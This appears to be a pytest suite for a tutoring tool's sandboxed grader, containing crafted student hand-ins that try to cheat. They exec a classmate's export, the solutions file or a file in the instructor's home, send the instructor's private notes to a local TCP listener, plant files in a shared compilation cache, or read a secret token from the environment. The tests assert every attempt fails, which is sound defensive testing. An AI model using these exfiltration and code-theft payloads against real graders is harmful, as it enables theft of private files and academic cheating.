"""`grade` runs a stranger's code as a stranger (issue 50, item 2). Crafted hand-ins, exported with
the real CLI, each try one way to pass without solving the exercise: exec a classmate's export in
the collected folder, exec the course's solutions/<id>.py, exec a file in the instructor's home,
or send a file to a TCP listener on 127.0.0.1 (and pass once connected). None may be graded
`pass`, and the listener hears nothing. Real bwrap, real workers; under the fence (no bwrap) too:
issue 50's item 1 (its Landlock read rules, the environment's allow-list and the socket filter).
"""

from __future__ import annotations

import json
import os
import shutil
import socket
import stat
import subprocess
import sys
import threading
from pathlib import Path

import pytest

ROOT = Path(__file__).resolve().parents[2]
EXERCISE = "pure-scale"
RIGHT = (ROOT / "solutions" / f"{EXERCISE}.py").read_text(encoding="utf-8")
# Each attack ends here when it got nothing: a wrong answer, so only a stolen one can pass.
WRONG = "\ndef scaled(x, scale):\n    return x\n"
HAS_BWRAP = shutil.which("bwrap") is not None
TOKEN = "s3cr3t-of-the-instructor"


def _steal(where: str) -> str:
    """A hand-in that runs the code it finds at `where` (a path, or a TCP port), else answers wrong."""
    return f"""
import json, os, socket
STOLEN = None
def _sources(value):
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for v in value.values():
            yield from _sources(v)
    elif isinstance(value, list):
        for v in value:
            yield from _sources(v)
try:
    where = {where!r}
    if where.startswith("tcp:"):
        with socket.create_connection(("127.0.0.1", int(where[4:])), timeout=5) as s:
            s.sendall(b"stolen: " + open(os.path.expanduser("~/notes.txt"), "rb").read())
        STOLEN = {RIGHT!r}
    elif where.endswith(".json"):
        for path in os.listdir(os.path.dirname(where)):
            if path.endswith(".json"):
                doc = json.load(open(os.path.join(os.path.dirname(where), path)))
                STOLEN = next((s for s in _sources(doc) if "def scaled" in s and "return x * scale" in s), None)
                if STOLEN:
                    break
    else:
        STOLEN = open(os.path.expanduser(where)).read()
except Exception as exc:
    print("nothing stolen:", type(exc).__name__, exc)
if STOLEN:
    exec(STOLEN)
else:
{WRONG.replace(chr(10), chr(10) + "    ")}
"""


# A hand-in that writes into the compilation cache its run is given (the next row's compiled code
# would come from there), and lists what the rows before it compiled; right only if it planted.
CACHE_PLANT = f"""
import os
import jax
PLANTED = False
try:
    cache = jax.config.jax_compilation_cache_dir
    if cache:
        print("cache holds:", sorted(os.listdir(cache))[:3])
        with open(os.path.join(cache, "planted-by-a-hand-in"), "w") as f:
            f.write("the next row's compiled code")
        PLANTED = True
except OSError as exc:
    print("nothing planted:", exc)
if PLANTED:
    exec({RIGHT!r})
else:
{WRONG.replace(chr(10), chr(10) + "    ")}
"""


class _Listener:
    """A TCP listener on 127.0.0.1 that keeps whatever reaches it."""

    def __init__(self):
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.port = self.sock.getsockname()[1]
        self.heard: list[bytes] = []
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            with conn:
                conn.settimeout(5)
                try:
                    self.heard.append(conn.recv(65536))
                except OSError:
                    self.heard.append(b"(connected)")


def _tutor(env: dict, home: Path, *args: str, cwd: Path = ROOT) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "tutor", "--home", str(home), *args],
        capture_output=True,
        text=True,
        env={**env, "JAXSTATE_TUTOR_HOME": str(home)},
        timeout=600,
        cwd=cwd,
    )


def _env(instructor: Path, path: str | None = None) -> dict:
    env = dict(os.environ)
    env["PYTHONPATH"] = os.pathsep.join(filter(None, [str(ROOT), env.get("PYTHONPATH")]))
    env["JAXSTATE_TUTOR_LANG"] = "en"
    env["HOME"] = str(instructor)
    if path is not None:
        env["PATH"] = path
    return env


def _class(base: Path, listener: _Listener) -> tuple[Path, Path, dict]:
    """A collected folder: bob's honest hand-in and four crafted ones, each exported by the real CLI."""
    instructor = base / "instructor"
    instructor.mkdir()
    (instructor / "answer.py").write_text(RIGHT, encoding="utf-8")  # what a home may hold: here, the answer
    (instructor / "notes.txt").write_text("the instructor's private notes\n", encoding="utf-8")
    collected = base / "collected"
    collected.mkdir()
    hand_ins = {
        "bob": RIGHT,
        "classmate": _steal(str(collected / "bob.json")),
        "solutions": _steal(str(ROOT / "solutions" / f"{EXERCISE}.py")),
        "home": _steal(str(instructor / "answer.py")),
        "network": _steal(f"tcp:{listener.port}"),
        # the compilation cache the run is given (under the fence it was the instructor's, shared by every
        # row): it answers right only if it could plant an entry there (issue 50's third red team)
        "cache": CACHE_PLANT,
        # the instructor's environment (a token in the shell): it answers right only if it saw the token
        "environ": f"import os\nif os.environ.get('GRADER_TOKEN') == {TOKEN!r}:\n    exec({RIGHT!r})\nelse:\n"
        + WRONG.replace("\n", "\n    "),
    }
    env = _env(instructor)
    for name, source in hand_ins.items():
        home = base / name
        (home / "workspace").mkdir(parents=True)
        (home / "workspace" / f"{EXERCISE}.py").write_text(source, encoding="utf-8")
        made = _tutor(env, home, "export", "--name", name, "--out", str(collected / f"{name}.json"))
        assert made.returncode == 0, made.stderr
    return instructor, collected, env


def _grade(base: Path, isolation: str, path: str | None = None) -> tuple[subprocess.CompletedProcess, dict, list]:
    listener = _Listener()
    instructor, collected, env = _class(base, listener)
    out = base / "table.json"
    ran = _tutor(
        {**_env(instructor, path), "GRADER_TOKEN": TOKEN},
        instructor / ".tutor",
        "grade",
        str(collected),
        "--json",
        str(out),
        "--isolation",
        isolation,
    )
    assert ran.returncode == 0, ran.stderr[-3000:]
    # the rows of what was handed in (the table has a row for every exercise of the course)
    handed = [
        r for r in json.loads(out.read_text(encoding="utf-8"))["rows"] if r["status"] != "missing" or r["claimed"]
    ]
    rows = {r["learner"]: r for r in handed}
    listener.sock.close()
    return ran, rows, listener.heard


ATTACKS = ("classmate", "solutions", "home", "network", "cache")


@pytest.fixture(scope="module")
def under_bwrap(tmp_path_factory):
    if not HAS_BWRAP:
        pytest.skip("bwrap is not installed here")
    return _grade(tmp_path_factory.mktemp("bwrap"), "bwrap")


@pytest.fixture(scope="module")
def under_fence(tmp_path_factory):
    # auto, on a PATH without bwrap: the fallback is the fence, and says so
    return _grade(tmp_path_factory.mktemp("fence"), "auto", path=str(tmp_path_factory.mktemp("empty-path")))


@pytest.mark.slow
@pytest.mark.parametrize("attack", ATTACKS)
def test_under_bwrap_no_stolen_answer_passes(under_bwrap, attack):
    ran, rows, heard = under_bwrap
    assert rows["bob"]["status"] == "pass", rows["bob"]  # the wall does not fail an honest file
    assert rows["bob"]["isolation"] == "bwrap"
    assert rows[attack]["status"] in ("fail", "error"), rows[attack]
    assert rows[attack]["isolation"] == "bwrap"
    assert heard == [], heard


@pytest.mark.slow
def test_under_bwrap_the_instructors_environment_is_not_in_view(under_bwrap):
    _, rows, _ = under_bwrap
    assert rows["environ"]["status"] in ("fail", "error"), rows["environ"]


@pytest.mark.slow
def test_under_the_fence_the_instructors_environment_is_not_in_view(under_fence):
    _, rows, _ = under_fence
    assert rows["environ"]["status"] in ("fail", "error"), rows["environ"]


# The fence's part (issue 50 item 1): Landlock read rules and the read hook (tutor.child.sight), the
# seccomp socket filter, the environment's allow-list.
@pytest.mark.slow
@pytest.mark.parametrize("attack", ATTACKS)
def test_under_the_fence_no_stolen_answer_passes(under_fence, attack):
    ran, rows, heard = under_fence
    assert rows["bob"]["status"] == "pass", rows["bob"]
    assert rows[attack]["status"] in ("fail", "error"), rows[attack]
    if attack == "network":
        assert heard == [], heard


@pytest.mark.slow
def test_auto_without_bwrap_says_so_once_and_the_column_says_fence(under_fence):
    ran, rows, _ = under_fence
    assert ran.stderr.count("bwrap is not installed") == 1, ran.stderr
    assert {r["isolation"] for r in rows.values()} == {"fence"}


def test_bwrap_asked_for_where_it_is_not_installed_is_named(tmp_path):
    (tmp_path / "collected").mkdir()
    ran = _tutor(
        _env(tmp_path, path=str(tmp_path)), tmp_path / "h", "grade", str(tmp_path / "collected"), "--isolation", "bwrap"
    )
    assert ran.returncode == 2, ran.stderr
    assert "bubblewrap (`bwrap`) is not installed" in ran.stderr
    assert "Traceback" not in ran.stderr


def test_bwrap_that_cannot_run_here_is_named_with_its_own_words(tmp_path):
    """A container or gVisor may have bwrap installed and still refuse its namespaces: said, not guessed."""
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    fake = bin_dir / "bwrap"
    fake.write_text("#!/bin/sh\necho 'bwrap: Creating new namespace failed: Operation not permitted' >&2\nexit 1\n")
    fake.chmod(fake.stat().st_mode | stat.S_IXUSR)
    (tmp_path / "collected").mkdir()
    ran = _tutor(
        _env(tmp_path, path=str(bin_dir)), tmp_path / "h", "grade", str(tmp_path / "collected"), "--isolation", "bwrap"
    )
    assert ran.returncode == 2, ran.stderr
    assert "does not run here (bwrap: Creating new namespace failed: Operation not permitted)" in ran.stderr


# -- outputs never replace what is not theirs (issue 50, item 6) ----------------------------------


def _an_export(tmp_path: Path, name: str, folder: Path) -> Path:
    home = tmp_path / name
    (home / "workspace").mkdir(parents=True)
    (home / "workspace" / f"{EXERCISE}.py").write_text(WRONG, encoding="utf-8")
    out = folder / f"{name}.json"
    made = _tutor(_env(tmp_path), home, "export", "--name", name, "--out", str(out))
    assert made.returncode == 0, made.stderr
    return out


def test_grade_refuses_to_write_its_table_over_a_hand_in(tmp_path):
    collected = tmp_path / "collected"
    collected.mkdir()
    alice = _an_export(tmp_path, "alice", collected)
    before = alice.read_bytes()
    for option, target, said in (
        ("--csv", alice, "a folder being graded"),
        ("--json", collected / "table.json", "a folder being graded"),  # not an export yet, but among them
    ):
        ran = _tutor(_env(tmp_path), tmp_path / "h", "grade", str(collected), option, str(target))
        assert ran.returncode == 2, ran.stderr
        assert said in ran.stderr and "Traceback" not in ran.stderr
    assert alice.read_bytes() == before
    assert not (collected / "table.json").exists()
    # an export elsewhere (last week's hand-in) is not the table's to replace either
    elsewhere = tmp_path / "old"
    elsewhere.mkdir()
    old = _an_export(tmp_path, "carol", elsewhere)
    ran = _tutor(_env(tmp_path), tmp_path / "h", "grade", str(collected), "--csv", str(old))
    assert ran.returncode == 2 and "is a learner's export" in ran.stderr, ran.stderr
    assert json.loads(old.read_text(encoding="utf-8"))["learner"] == "carol"


def test_export_refuses_to_replace_what_is_not_a_regular_file(tmp_path):
    home = tmp_path / "alice"
    (home / "workspace").mkdir(parents=True)
    (home / "workspace" / f"{EXERCISE}.py").write_text(WRONG, encoding="utf-8")
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    targets = {fifo: "is a pipe", tmp_path / "folder": "is a folder"}
    (tmp_path / "folder").mkdir()
    if os.geteuid() == 0:  # a device node, as /dev/null is (made here, so nothing of the system's is at stake)
        node = tmp_path / "null"
        os.mknod(node, stat.S_IFCHR | 0o666, os.makedev(1, 3))
        targets[node] = "is a device"
    for target, said in targets.items():
        before = os.lstat(target)
        ran = _tutor(_env(tmp_path), home, "export", "--name", "alice", "--out", str(target))
        assert ran.returncode == 2, (target, ran.stderr)
        assert said in ran.stderr and "Traceback" not in ran.stderr
        after = os.lstat(target)
        assert (after.st_ino, after.st_mode) == (before.st_ino, before.st_mode)


def test_outputs_never_replace_the_homes_files_another_learners_export_or_each_other(tmp_path):
    """Issue 50's third red team (on e7a425f): `export --out <home>/progress.json` replaced the
    learner's progress with the export, bob's `export --out collected/alice.json` replaced alice's
    hand-in, and `grade --csv X --json X` wrote the CSV and then the JSON over it."""
    collected = tmp_path / "collected"
    collected.mkdir()
    alice = _an_export(tmp_path, "alice", collected)
    before = alice.read_bytes()
    progress = tmp_path / "alice" / "progress.json"
    hinted = _tutor(_env(tmp_path), tmp_path / "alice", "hint", EXERCISE)  # the tutor writes her progress
    assert hinted.returncode == 0 and progress.is_file(), hinted.stderr
    kept = progress.read_bytes()
    again = _tutor(_env(tmp_path), tmp_path / "alice", "export", "--name", "alice", "--out", str(alice))
    assert again.returncode == 0, again.stderr  # her own export, made again: replaced as before
    before = alice.read_bytes()
    for lang, said in (("en", "never replaces the tutor's progress"), ("zh", "绝不会覆盖本教程的进度")):
        ran = _tutor(_env(tmp_path), tmp_path / "alice", "--lang", lang, "export", "--out", str(progress))
        assert ran.returncode == 2 and said in ran.stderr and "Traceback" not in ran.stderr, ran.stderr
    assert progress.read_bytes() == kept
    bob = tmp_path / "bob"
    (bob / "workspace").mkdir(parents=True)
    for lang, said in (("en", "is alice's export"), ("zh", "是 alice 的导出文件")):
        ran = _tutor(_env(tmp_path), bob, "--lang", lang, "export", "--name", "bob", "--out", str(alice))
        assert ran.returncode == 2 and said in ran.stderr and "Traceback" not in ran.stderr, ran.stderr
    assert alice.read_bytes() == before
    table = tmp_path / "table.out"
    ran = _tutor(_env(tmp_path), tmp_path / "h", "grade", str(collected), "--csv", str(table), "--json", str(table))
    assert ran.returncode == 2 and "one file given for two tables" in ran.stderr, ran.stderr
    assert not table.exists()
